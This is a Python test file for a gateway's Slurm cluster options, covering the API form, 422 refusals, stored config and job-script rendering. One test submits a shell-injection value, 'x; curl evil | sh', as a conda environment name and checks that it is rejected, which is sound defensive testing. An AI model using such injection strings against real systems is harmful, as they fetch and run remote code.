"""The site's options through a real in-process gateway (`gateway_core.testing`'s
`make_gateway`): the form on the API, refusals as 422, the resolved cluster config, and the
Slurm job script rendered from what the gateway stored."""

from __future__ import annotations

from typing import Any

import pytest

from gateway_core.config import load_config
from gateway_core.context import GatewayContext
from gateway_core.models import Cluster, Worker
from gateway_slurm.backend import SlurmClusterConfig, SlurmConfig, SlurmDriver

pytestmark = pytest.mark.unit


def stored(gateway: Any, name: str) -> Cluster:
    cluster: Cluster | None = gateway.backend.store.get(name)
    assert cluster is not None
    return cluster


async def test_the_api_shows_the_sites_form(
    make_gateway: Any,
    make_api_client: Any,
    site_gateway_config: dict[str, Any],
    site_plugins: list[object],
) -> None:
    gateway = await make_gateway(site_gateway_config, plugins=site_plugins)
    form = await make_api_client(gateway, "alice").get("/api/v1/options")
    assert form.status == 200
    fields = {f["field"]: f for f in form.body["cluster_options"]}
    assert list(fields) == [
        "worker_cores",
        "worker_memory",
        "env",
        "conda_env",
        "pixi_project",
        "pixi_env",
    ]
    assert fields["worker_cores"] == {
        "field": "worker_cores",
        "label": "Cores per worker",
        "default": 1,
        "spec": {"type": "int", "min": 1, "max": 8},
    }
    assert fields["worker_memory"]["spec"] == {"type": "float", "min": 1.0, "max": 32.0}
    assert fields["env"]["spec"] == {"type": "mapping"}


async def test_a_cluster_gets_the_sizes_env_and_conda_env_the_user_typed(
    make_gateway: Any,
    make_api_client: Any,
    site_gateway_config: dict[str, Any],
    site_plugins: list[object],
) -> None:
    gateway = await make_gateway(site_gateway_config, plugins=site_plugins)
    alice = make_api_client(gateway, "alice")
    options = {"worker_cores": 2, "worker_memory": 4, "env": {"MY_VAR": "1"}}
    created = await alice.post(
        "/api/v1/clusters/", {"cluster_options": {**options, "conda_env": "analysis"}}
    )
    assert created.status == 201, created.body
    config = stored(gateway, created.body["name"]).config
    assert config["worker_cores"] == 2
    assert config["worker_memory"] == 4 * 2**30
    assert config["environment"] == {"SITE_VAR": "site", "MY_VAR": "1"}
    assert config["partition"] == "dask"
    assert config["worker_setup"].startswith("module load gcc\n")
    assert "conda activate analysis ||" in config["worker_setup"]
    assert "conda activate analysis ||" in config["scheduler_setup"]


async def test_conda_and_pixi_together_are_a_422_naming_both(
    make_gateway: Any,
    make_api_client: Any,
    site_gateway_config: dict[str, Any],
    site_plugins: list[object],
) -> None:
    gateway = await make_gateway(site_gateway_config, plugins=site_plugins)
    alice = make_api_client(gateway, "alice")
    refused = await alice.post(
        "/api/v1/clusters/",
        {"cluster_options": {"conda_env": "analysis", "pixi_project": "/depot/alice/ana"}},
    )
    assert refused.status == 422
    text = str(refused.body)
    assert "conda_env and pixi_project are mutually exclusive" in text
    assert "'analysis'" in text and "'/depot/alice/ana'" in text
    listed = await alice.get("/api/v1/clusters/")
    assert listed.status == 200 and listed.body == {}


async def test_out_of_bounds_and_shell_characters_are_422s(
    make_gateway: Any,
    make_api_client: Any,
    site_gateway_config: dict[str, Any],
    site_plugins: list[object],
) -> None:
    gateway = await make_gateway(site_gateway_config, plugins=site_plugins)
    alice = make_api_client(gateway, "alice")
    too_big = await alice.post("/api/v1/clusters/", {"cluster_options": {"worker_memory": 64}})
    assert too_big.status == 422
    assert "worker_memory: 64.0 is above the maximum of 32.0" in str(too_big.body)
    injected = await alice.post(
        "/api/v1/clusters/", {"cluster_options": {"conda_env": "x; curl evil | sh"}}
    )
    assert injected.status == 422
    assert "conda_env: 'x; curl evil | sh' is not allowed" in str(injected.body)


async def test_the_stored_config_renders_a_job_script_running_the_pixi_env_with_env(
    make_gateway: Any,
    make_api_client: Any,
    site_gateway_config: dict[str, Any],
    site_plugins: list[object],
) -> None:
    gateway = await make_gateway(site_gateway_config, plugins=site_plugins)
    alice = make_api_client(gateway, "alice")
    created = await alice.post(
        "/api/v1/clusters/",
        {
            "cluster_options": {
                "env": {"X509_USER_PROXY": "/depot/alice/x509 proxy"},
                "pixi_project": "/depot/alice/ana",
                "pixi_env": "gpu",
            }
        },
    )
    assert created.status == 201, created.body
    cluster = stored(gateway, created.body["name"])
    cluster.scheduler_address = "tls://10.1.1.1:4000"
    context = GatewayContext(config=load_config({}, environ={}), hook=None)
    context.api_url = "http://gateway.example.org:8000/api"
    driver = SlurmDriver(
        config=SlurmConfig(submit_command="/usr/bin/sbatch", inherited_environment=[]),
        context=context,
        cluster_config_class=SlurmClusterConfig,
    )
    settings = driver.cluster_config(cluster)
    worker = Worker(name=f"{cluster.name}-w1", cluster_name=cluster.name)
    script = driver.job_script(cluster, settings, worker=worker, staging_dir="/h/.dg/x")
    lines = script.splitlines()
    assert "export X509_USER_PROXY='/depot/alice/x509 proxy'" in lines
    hook = next(i for i, line in enumerate(lines) if line.startswith("_site_pixi_hook="))
    assert "pixi shell-hook --shell bash --manifest-path /depot/alice/ana -e gpu" in lines[hook]
    assert lines[hook + 1] == 'eval "$_site_pixi_hook"'
    assert lines.index("export X509_USER_PROXY='/depot/alice/x509 proxy'") < hook
    assert lines[-1].startswith("exec dask worker tls://10.1.1.1:4000 ")
